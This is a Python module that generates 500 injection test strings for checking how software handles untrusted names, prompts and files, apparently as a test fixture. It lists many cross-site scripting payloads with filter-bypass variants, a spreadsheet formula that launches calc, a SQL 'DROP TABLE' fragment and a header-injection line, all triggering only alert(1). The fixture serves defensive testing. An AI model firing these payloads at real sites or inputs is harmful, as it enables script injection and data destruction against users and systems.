"""500 strings that try to run: what strangers put into names, prompts and files. Each calls ``alert`` if it gets to."""

from itertools import cycle, islice, product

EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationend", "onbegin", "onpointerenter")
CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "&#97;lert(1)", "\\u0061lert(1)", "(alert)(1)", "alert?.(1)")
# {e}: an event, {c}: a call.
TAGS = (
    "<img src=x {e}={c}>",
    "<svg/{e}={c}>",
    '"><img src=x {e}="{c}">',
    "'><svg {e}='{c}'>",
    '" autofocus tabindex=1 {e}={c} x="',
    "' {e}={c} x='",
    "<details open {e}={c}>",
    "<input autofocus {e}={c}>",
    "<video><source {e}={c}>",
    "</textarea><img src=x {e}={c}>",
    "</title><svg {e}={c}>",
    "<svg><animate {e}={c} attributeName=x dur=1s>",
    "<p style=animation:x {e}={c}>",
    "<math><mtext></p><img src=x {e}={c}>",
)
SCRIPTS = (
    "<script>{c}</script>",
    "</script><script>{c}</script>",
    "<scr<script>ipt>{c}</script>",
    "<ScRiPt\t>{c}</sCrIpT >",
    "<script src=data:text/javascript,{c}></script>",
    "<a href=javascript:{c}>go</a>",
    "<a href='java\tscript:{c}'>go</a>",
    "[go](javascript:{c})",
    "[go](java&#115;cript:{c})",
    '![x](x"onerror={c} )',
    "[x]: javascript:{c}",
    "<javascript:{c}>",
    "<iframe srcdoc='<script>{c}</script>'>",
    "<iframe src=javascript:{c}>",
    "<object data=javascript:{c}>",
    "<embed src=data:text/html,<script>{c}</script>>",
    "<form action=javascript:{c}><button autofocus>x",
    "<svg><script>{c}</script></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload={c}>#x>",
    "<base href=javascript:{c}//>",
    "<meta http-equiv=refresh content=0;javascript:{c}>",
    "<link rel=stylesheet href=data:text/css,*{{}}><b>{c}",
    "<template><script>{c}</script></template>",
    "<!--><script>{c}</script>-->",
    "<![CDATA[<script>{c}</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "{{{{{c}}}}}",
    "{{% include {c} %}}",
    "${{{c}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "<p hx-on:load={c}>",
    "<p hx-get=/ hx-trigger='load[{c}]'>",
    "<p hx-vals='js:{{x:{c}}}' hx-post=/ hx-trigger=load>",
    "\u202e<script>{c}</script>",
    "\u003cscript\u003e{c}\u003c/script\u003e",
    "%3Cscript%3E{c}%3C/script%3E",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#x3C;script&#x3E;{c}&#x3C;/script&#x3E;",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "=cmd|' /C calc'!A0 {c}",
    "'; DROP TABLE x;-- {c}",
    '\\"-{c}-\\"',
    "';{c}//",
    "</style><script>{c}</script>",
    "x\r\nX-Header: {c}",
    "<lora:<script>{c}</script>:1>",
    "__<img src=x onerror={c}>__",
)
COUNT = 500


def strings() -> list[str]:
    """All of them, distinct, in the same order every time."""
    made = [tag.format(e=e, c=c) for e, (tag, c) in zip(cycle(EVENTS), product(TAGS, CALLS), strict=False)]
    made += [script.format(c=c) for script, c in product(SCRIPTS, CALLS)]
    made += [tag.format(e=e, c=CALLS[0]) for tag, e in product(TAGS, EVENTS)]
    distinct = list(dict.fromkeys(made))
    assert len(distinct) >= COUNT, len(distinct)
    return list(islice(distinct, COUNT))
